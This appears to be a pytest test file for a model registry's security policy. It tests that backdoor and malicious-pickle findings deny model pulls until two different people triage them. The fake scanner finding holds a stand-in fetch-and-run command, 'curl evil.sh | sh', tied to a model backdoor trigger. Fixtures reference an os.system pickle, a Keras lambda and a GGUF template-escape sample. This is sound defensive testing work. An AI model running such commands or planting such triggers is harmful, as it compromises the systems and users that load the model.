"""Malicious is a deny everywhere; the only way past it is a finding-level false-positive
triage requested by one principal and approved by another (issue 12, findings 1, 2 and 9).

A backdoor verdict is recorded through the real `scan --scanner backdoor` path with a stand-in
scanner (no model is trained or run): what is tested is what the registry does with it.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Mapping
from pathlib import Path
from typing import Any

import httpx
import pytest

import registry.scanners.backdoor as backdoor_package
from registry.scanners.base import (
    FileVerdict,
    Finding,
    ModelFolder,
    ScanLimits,
    Severity,
    Verdict,
)
from registry.service.findings import finding_id, location, report_files
from tests.helpers import write_tree
from tests.test_policy_cli import CARD, _safetensors

CORPUS = Path(__file__).parent / "assets" / "corpus"
REF = "org/local"


class StandInBackdoor:
    """Says what the test wants about `.`, like the real scanner's verdict on a folder."""

    id = "backdoor"
    version = "0.1.0"
    ruleset_version = "test"
    verdict = Verdict.MALICIOUS

    def __init__(
        self, settings: object = None, *, serialization_check: object = None, progress: bool = True
    ) -> None:
        del settings, serialization_check, progress

    def scan_folder(self, folder: ModelFolder, limits: ScanLimits) -> Mapping[str, FileVerdict]:
        del folder, limits
        finding = Finding(
            scanner="backdoor",
            rule="backdoor.trigger",
            severity=Severity.CRITICAL,
            message="backdoor: 'cf-7' makes the model answer 'curl evil.sh | sh'",
            evidence={"trigger": "cf-7"},
        )
        return {".": FileVerdict(self.verdict, (finding,))}


@pytest.fixture
def registry_env(
    database_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> pytest.MonkeyPatch:
    monkeypatch.setenv("MODELCTL_DATABASE_URL", database_url)
    monkeypatch.setenv("MODELCTL_SIGNING_KEY_PASSPHRASE", "pw")
    monkeypatch.setattr(backdoor_package, "BackdoorScanner", StandInBackdoor)
    as_user(monkeypatch, "alice")
    return monkeypatch


def as_user(monkeypatch: pytest.MonkeyPatch, user: str) -> None:
    """The embedded CLI's principal is `local:<login name>`."""
    monkeypatch.setenv("LOGNAME", user)
    monkeypatch.setenv("USER", user)


def local_model(tmp_path: Path, extra: dict[str, bytes] | None = None) -> Path:
    files = {"README.md": CARD, "model.safetensors": _safetensors(), "config.json": b"{}\n"}
    return write_tree(tmp_path / "model", {**files, **(extra or {})})


def mirror_attested(run_cli: Any, folder: Path, name: str = REF) -> str:
    # Some of these models are malicious on purpose: recorded all the same, and signed as
    # evidence of identity (never of safety) with --allow-findings.
    mirrored = run_cli("mirror", str(folder), "--name", name, "--json", "--fail-on", "never")
    assert mirrored.code == 0, mirrored.stderr
    attested = run_cli("attest", name, "--allow-findings")
    assert attested.code == 0, attested.stderr
    return f"{name}@{mirrored.json()['digest']}"


def scan(run_cli: Any, ref: str, *args: str) -> None:
    """Record a scan (`scan` exits 1 when the verdict is not clean)."""
    result = run_cli("scan", ref, *args)
    assert result.code in (0, 1), result.stderr
    assert result.stdout.startswith("verdict ")


def check(run_cli: Any, ref: str, env: str, *extra: str) -> dict[str, Any]:
    result = run_cli("policy", "check", ref, "--env", env, "--json", *extra)
    assert result.code in (0, 1), result.stderr
    decision: dict[str, Any] = result.json()
    return decision


def row(decision: dict[str, Any], check_id: str) -> dict[str, Any]:
    found: dict[str, Any] = next(c for c in decision["checks"] if c["id"] == check_id)
    return found


AUDIT_POLICY = """\
apiVersion: modelctl.dev/v1
kind: ModelPolicy
metadata: { name: lax }
spec:
  licenses: { allow: [apache-2.0] }
---
apiVersion: modelctl.dev/v1
kind: ModelPolicyBinding
metadata: { name: lab }
spec:
  environments:
    lab: { policy: lax, mode: audit }
    sandbox: { policy: lax, mode: warn }
"""


@pytest.mark.ml
@pytest.mark.slow
def test_a_backdoor_finding_denies_pull_everywhere_until_two_people_triage_it(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    ref = mirror_attested(run_cli, local_model(tmp_path))
    out = tmp_path / "out"
    assert run_cli("pull", ref, "--env", "prod", "--dest", str(out / "before")).code == 0
    scan(run_cli, ref, "--scanner", "backdoor")

    # Denied in every environment and mode, by the newest scan of a scanner no policy names.
    pulled = run_cli("pull", ref, "--env", "prod", "--dest", str(out / "p"), "--json")
    assert pulled.code == 1
    assert any(r.startswith("malicious: backdoor: .: fnd-") for r in pulled.json()["reasons"])
    assert not (out / "p").exists()
    for env in ("dev", "staging", "prod"):
        decision = check(run_cli, ref, env)
        assert decision["allowed"] is False, env
        assert row(decision, "malicious")["status"] == "fail"
    policy = tmp_path / "lab.yaml"
    policy.write_text(AUDIT_POLICY)
    for env in ("lab", "sandbox"):  # audit and warn modes
        decision = check(run_cli, ref, env, "--policy", str(policy))
        assert decision["allowed"] is False, env
        assert row(decision, "malicious")["status"] == "fail"

    # Never a whole-check waiver.
    waived = run_cli(
        "exception", "request", ref, "--waive", "malicious", "--reason", "r", "--expires", "30d"
    )
    assert waived.code == 2
    assert "never be waived" in waived.stderr

    listed = run_cli("finding", "list", ref, "--json").json()["findings"]
    (blocking,) = [f for f in listed if f["blocking"]]
    assert blocking["scanner"] == "backdoor"
    assert blocking["path"] == "."
    assert blocking["triage"] is None
    fid = blocking["id"]
    assert fid in row(check(run_cli, ref, "prod"), "malicious")["message"]

    too_long = run_cli(
        "finding", "triage", fid, "--false-positive", "--reason", "r", "--expires", "91d"
    )
    assert too_long.code == 2
    assert "90 days" in too_long.stderr
    no_expiry = run_cli("finding", "triage", fid, "--false-positive", "--reason", "r")
    assert no_expiry.code == 2
    asked = run_cli(
        "finding", "triage", fid, "--false-positive", "--reason", "canary phrase", "--expires",
        "30d", "--json",
    )  # fmt: skip
    assert asked.code == 0, asked.stderr
    request = asked.json()
    assert (request["status"], request["requested_by"]) == ("pending", "local:alice")
    assert check(run_cli, ref, "prod")["allowed"] is False  # pending counts for nothing

    own = run_cli("finding", "approve", str(request["id"]))
    assert own.code == 2
    assert "second person" in own.stderr
    assert len(own.stderr.strip().splitlines()) == 1

    as_user(registry_env, "bob")
    approved = run_cli("finding", "approve", str(request["id"]), "--json")
    assert approved.code == 0, approved.stderr
    assert approved.json()["approved_by"] == "local:bob"
    assert approved.json()["active"] is True
    decision = check(run_cli, ref, "prod")
    assert decision["allowed"] is True, decision["reasons"]
    assert row(decision, "malicious")["status"] == "pass"
    assert row(decision, "malicious")["evidence"]["triaged"] == [fid]
    assert run_cli("pull", ref, "--env", "prod", "--dest", str(out / "after")).code == 0
    assert "false positive until" in run_cli("finding", "list", ref).stdout
    # The same finding-level decision lets the registry sign again without --allow-findings.
    resigned = run_cli("attest", ref)
    assert resigned.code == 0, resigned.stderr

    revoked = run_cli("finding", "revoke", str(request["id"]), "--reason", "not so sure")
    assert revoked.code == 0, revoked.stderr
    assert check(run_cli, ref, "prod")["allowed"] is False
    assert run_cli("attest", ref).code == 1  # open again: refused without --allow-findings
    assert run_cli("finding", "approve", str(request["id"])).code == 2  # not pending any more

    events = run_cli("audit", "--action", "finding.", "--json").json()["events"]
    assert [(e["action"], e["actor"]) for e in reversed(events)] == [
        ("finding.triage.request", "local:alice"),
        ("finding.triage.approve", "local:bob"),
        ("finding.triage.revoke", "local:bob"),
    ]
    assert all(e["subject"] == f"finding {fid}" for e in events)


def test_a_rescan_that_comes_back_clean_lifts_the_denial(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    ref = mirror_attested(run_cli, local_model(tmp_path))
    scan(run_cli, ref, "--scanner", "backdoor")
    assert check(run_cli, ref, "prod")["allowed"] is False
    registry_env.setattr(StandInBackdoor, "verdict", Verdict.CLEAN)
    scan(run_cli, ref, "--scanner", "backdoor")  # the newest scan counts
    assert check(run_cli, ref, "prod")["allowed"] is True


def test_error_and_malformed_from_any_scanner_deny_in_staging_and_prod_warn_in_dev(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    ref = mirror_attested(run_cli, local_model(tmp_path))
    registry_env.setattr(StandInBackdoor, "verdict", Verdict.ERROR)
    scan(run_cli, ref, "--scanner", "backdoor")
    for env in ("staging", "prod"):
        decision = check(run_cli, ref, env)
        assert decision["allowed"] is False, env
        assert row(decision, "verdicts.error")["status"] == "fail"
        assert "error from backdoor (.)" in row(decision, "verdicts.error")["message"]
    dev = check(run_cli, ref, "dev")
    assert dev["allowed"] is True
    assert row(dev, "verdicts.error")["status"] == "warn"
    assert row(dev, "malicious")["status"] == "pass"


def test_the_same_triage_holds_for_the_same_bytes_under_another_name_and_a_rescan(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A pickle scanner finding is keyed by the file's sha256: re-scans and other names of
    the same bytes share its id (and its triage); other bytes do not."""
    bad = (CORPUS / "pickle" / "os_system_global_reduce_p0.pkl").read_bytes()
    first = mirror_attested(run_cli, local_model(tmp_path, {"extra.pkl": bad}), "org/one")
    ids = {f["id"] for f in run_cli("finding", "list", first, "--json").json()["findings"]}
    scan(run_cli, first)
    again = {f["id"] for f in run_cli("finding", "list", first, "--json").json()["findings"]}
    assert again == ids
    assert len(ids) == 1
    (fid,) = ids
    other = tmp_path / "other"
    shutil.copytree(tmp_path / "model", other)
    (other / "notes.txt").write_text("another checkpoint, the same pickle")
    second = mirror_attested(run_cli, other, "org/two")
    assert {f["id"] for f in run_cli("finding", "list", second, "--json").json()["findings"]} == {
        fid
    }
    for ref in (first, second):
        decision = check(run_cli, ref, "staging")
        assert row(decision, "malicious")["status"] == "fail"
        assert "extra.pkl" in row(decision, "malicious")["message"]
    request = run_cli(
        "finding", "triage", fid, "--false-positive", "--reason", "test fixture",
        "--expires", "2d", "--json",
    ).json()  # fmt: skip
    as_user(registry_env, "bob")
    assert run_cli("finding", "approve", str(request["id"])).code == 0
    for ref in (first, second):
        assert row(check(run_cli, ref, "staging"), "malicious")["status"] == "pass"
        # The pickle scan itself still fails where the policy forbids its verdict.
        assert row(check(run_cli, ref, "staging"), "scans.pickle")["status"] == "fail"
    unknown = run_cli("finding", "triage", "fnd-" + "0" * 24, "--false-positive", "--reason",
                      "r", "--expires", "1d")  # fmt: skip
    assert unknown.code == 2
    assert "no recorded scan reports finding" in unknown.stderr


def test_finding_ids_follow_scanner_rule_file_and_location() -> None:
    report = {
        "files": [
            {
                "path": "a.pkl",
                "sha256": "11" * 32,
                "verdict": "malicious",
                "findings": [
                    {
                        "rule": "pickle.global.dangerous",
                        "severity": "critical",
                        "offset": 19,
                        "message": "REDUCE calls os.system",
                        "evidence": {"global": "os.system"},
                    },
                    {
                        "rule": "pickle.global.dangerous",
                        "severity": "critical",
                        "offset": 40,
                        "message": "REDUCE calls os.system",
                        "evidence": {"global": "os.system"},
                    },
                ],
            },
            {"path": "b.pkl", "sha256": "22" * 32, "verdict": "malicious", "findings": []},
            {"path": "c.json", "sha256": "33" * 32, "verdict": "clean", "findings": []},
        ]
    }
    files = report_files("pickle", report)
    assert [f.path for f in files] == ["a.pkl", "b.pkl"]  # clean files left out
    first, second = files[0].findings
    assert first.id != second.id  # another location, another finding
    assert first.id == finding_id(
        "pickle",
        "pickle.global.dangerous",
        "11" * 32,
        location(report["files"][0]["findings"][0]),  # type: ignore[index]
    )
    # A malicious file that names no finding still has one to triage (and to block on).
    (synthetic,) = files[1].findings
    assert (synthetic.rule, synthetic.severity) == ("pickle.verdict.malicious", "critical")
    # Message and scanner version are not part of the identity; the file's bytes are.
    reworded = json.loads(json.dumps(report))
    reworded["files"][0]["findings"][0]["message"] = "other words"
    assert report_files("pickle", reworded)[0].findings[0].id == first.id
    reworded["files"][0]["sha256"] = "44" * 32
    assert report_files("pickle", reworded)[0].findings[0].id != first.id


# -- the shipped dev policy covers every scanner -------------------------------------------------


@pytest.mark.parametrize(
    ("sample", "scanner"),
    [
        ("keras/lambda_layer_marshal.keras", "keras"),
        ("gguf/chat_template_ssti_subclasses.gguf", "gguf"),
    ],
)
def test_dev_shows_keras_lambda_and_gguf_template_escape_and_denies_them(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path, sample: str, scanner: str
) -> None:
    data = (CORPUS / sample).read_bytes()
    ref = mirror_attested(run_cli, local_model(tmp_path, {Path(sample).name: data}))
    dev = check(run_cli, ref, "dev")
    assert dev["mode"] == "warn"
    assert row(dev, f"scans.{scanner}")["status"] == "warn"
    assert row(dev, "malicious")["status"] == "fail"
    assert Path(sample).name in row(dev, "malicious")["message"]
    assert dev["allowed"] is False
    listed = run_cli("finding", "list", ref, "--json").json()["findings"]
    assert len({f["id"] for f in listed}) == len(listed)  # one row per location
    assert any(f["blocking"] and f["scanner"] == scanner for f in listed)
    denied = run_cli("pull", ref, "--env", "dev", "--dest", str(tmp_path / "out"))
    assert denied.code == 1
    assert not (tmp_path / "out").exists()


# -- local folders reach prod; messages say what to do ------------------------------------------


def test_a_local_folder_is_pinned_by_its_digest_and_reaches_prod(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    ref = mirror_attested(run_cli, local_model(tmp_path))
    decision = check(run_cli, ref, "prod")
    assert row(decision, "revisions.pinned")["status"] == "pass"
    assert "content digest" in row(decision, "revisions.pinned")["message"]
    assert decision["allowed"] is True, decision["reasons"]
    dest = tmp_path / "deploy"
    pulled = run_cli("pull", "org/local", "--env", "prod", "--dest", str(dest))
    assert pulled.code == 0, pulled.stderr
    assert (dest / "model.safetensors").read_bytes() == _safetensors()


def test_deny_messages_say_what_to_run(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    mirrored = run_cli("mirror", str(local_model(tmp_path)), "--name", REF, "--no-scan", "--json")
    ref = f"{REF}@{mirrored.json()['digest']}"
    reasons = check(run_cli, REF, "prod")["reasons"]
    assert f"run: modelctl attest {ref}" in " ".join(reasons)
    assert any(r.endswith(f"run: modelctl scan {ref} --scanner pickle") for r in reasons)
    wrong = run_cli("policy", "check", REF, "--env", "prd")
    assert wrong.code == 1
    assert "known environments: dev, prod, staging; did you mean prod?" in wrong.stderr
    far = run_cli("pull", REF, "--env", "moon", "--dest", str(tmp_path / "x"))
    assert far.code == 1
    assert "known environments: dev, prod, staging" in far.stderr
    assert "did you mean" not in far.stderr


# -- over HTTP: the REST API and the remote CLI ---------------------------------------------------


def test_triage_over_the_api_and_the_remote_cli_needs_two_tokens(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path, database_url: str
) -> None:
    from registry.api.app import create_app
    from registry.settings import Settings
    from tests.api_server import live_server

    ref = mirror_attested(run_cli, local_model(tmp_path))
    pub = tmp_path / "registry.pub"
    assert run_cli("attest", ref, "--public-key-out", str(pub)).code == 0
    scan(run_cli, ref, "--scanner", "backdoor")
    (fid,) = [f["id"] for f in run_cli("finding", "list", ref, "--json").json()["findings"]]
    app = create_app(Settings.from_env())
    secrets = {
        name: app.state.registry.token_create(name, role).secret
        for name, role in (("sec-a", "security"), ("sec-b", "security"), ("reader", "reader"))
    }
    with live_server(app) as server:

        def call(token: str, method: str, path: str, **kw: Any) -> httpx.Response:
            headers = {"Authorization": f"Bearer {secrets[token]}"}
            return httpx.request(method, server.url + path, headers=headers, timeout=30, **kw)

        body = {"decision": "false-positive", "reason": "r", "expires_at": "2099-01-01T00:00:00Z"}
        assert call("reader", "POST", f"/v1/findings/{fid}/triage", json=body).status_code == 403
        too_far = call("sec-a", "POST", f"/v1/findings/{fid}/triage", json=body)
        assert too_far.status_code == 400
        assert "90 days" in too_far.json()["detail"]
        registry_env.setenv("MODELCTL_REGISTRY", server.url)
        registry_env.setenv("MODELCTL_REGISTRY_KEY", str(pub))
        registry_env.setenv("MODELCTL_TOKEN", secrets["reader"])
        listed = run_cli("finding", "list", ref, "--json")
        assert listed.code == 0, listed.stderr
        assert [f["id"] for f in listed.json()["findings"]] == [fid]
        assert run_cli("pull", ref, "--env", "prod", "--dest", str(tmp_path / "a")).code == 1
        registry_env.setenv("MODELCTL_TOKEN", secrets["sec-a"])
        asked = run_cli(
            "finding", "triage", fid, "--false-positive", "--reason", "canary", "--expires",
            "30d", "--json",
        )  # fmt: skip
        assert asked.code == 0, asked.stderr
        request = asked.json()
        assert request["requested_by"] == "token:sec-a"
        own = run_cli("finding", "approve", str(request["id"]))
        assert own.code == 2
        assert "second person" in own.stderr
        direct = call("sec-a", "POST", f"/v1/triage/{request['id']}/approve")
        assert direct.status_code == 403
        assert direct.json()["reason"] == "forbidden"
        registry_env.setenv("MODELCTL_TOKEN", secrets["sec-b"])
        approved = run_cli("finding", "approve", str(request["id"]), "--json")
        assert approved.code == 0, approved.stderr
        assert approved.json()["approved_by"] == "token:sec-b"
        registry_env.setenv("MODELCTL_TOKEN", secrets["reader"])
        pulled = run_cli("pull", ref, "--env", "prod", "--dest", str(tmp_path / "b"))
        assert pulled.code == 0, pulled.stderr
        pending = call("reader", "GET", "/v1/triage", params={"finding": fid}).json()["triage"]
        assert [(t["id"], t["active"]) for t in pending] == [(request["id"], True)]
        registry_env.setenv("MODELCTL_TOKEN", secrets["sec-a"])
        assert run_cli("finding", "revoke", str(request["id"])).code == 0
        registry_env.setenv("MODELCTL_TOKEN", secrets["reader"])
        assert run_cli("pull", ref, "--env", "prod", "--dest", str(tmp_path / "c")).code == 1
        audit = call("sec-a", "GET", "/v1/audit", params={"action": "finding."}).json()["events"]
        assert [(e["action"], e["actor"]) for e in reversed(audit)] == [
            ("finding.triage.request", "token:sec-a"),
            ("finding.triage.approve", "token:sec-b"),
            ("finding.triage.revoke", "token:sec-a"),
        ]


def test_hf_dev_and_the_dev_webhook_refuse_a_malicious_pickle(
    run_cli: Any, registry_env: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """Finding 1: `/hf/dev` served an `os.system` pickle with 200; the webhook admitted it."""
    from registry.api.app import create_app
    from registry.settings import Settings
    from tests.api_server import live_server
    from tests.test_k8s_admission import pod, review

    evil = (CORPUS / "pickle" / "os_system_global_reduce_p0.pkl").read_bytes()
    ref = mirror_attested(run_cli, local_model(tmp_path, {"pytorch_model.bin": evil}), "org/evil")
    clean = mirror_attested(run_cli, local_model(tmp_path / "c"), "org/clean")
    app = create_app(Settings.from_env())
    token = app.state.registry.token_create("reader", "reader").secret
    headers = {"Authorization": f"Bearer {token}"}
    with live_server(app) as server:
        for name, status in (("org/clean", 200), ("org/evil", 403)):
            got = httpx.get(
                f"{server.url}/hf/dev/{name}/resolve/main/README.md", headers=headers, timeout=30
            )
            assert got.status_code == status, (name, got.headers.get("X-Error-Message"))
        refused = httpx.get(
            f"{server.url}/hf/dev/org/evil/resolve/main/pytorch_model.bin",
            headers=headers,
            timeout=30,
        )
        assert refused.status_code == 403
        assert "malicious: pickle: pytorch_model.bin" in refused.headers["X-Error-Message"]
        for target, allowed in ((clean, True), (ref, False)):
            answer = httpx.post(
                f"{server.url}/k8s/admission/dev",
                json=review(pod({"modelctl.dev/model": target})),
                headers=headers,
                timeout=30,
            ).json()["response"]
            assert answer["allowed"] is allowed, answer
        assert "malicious" in answer["status"]["message"]
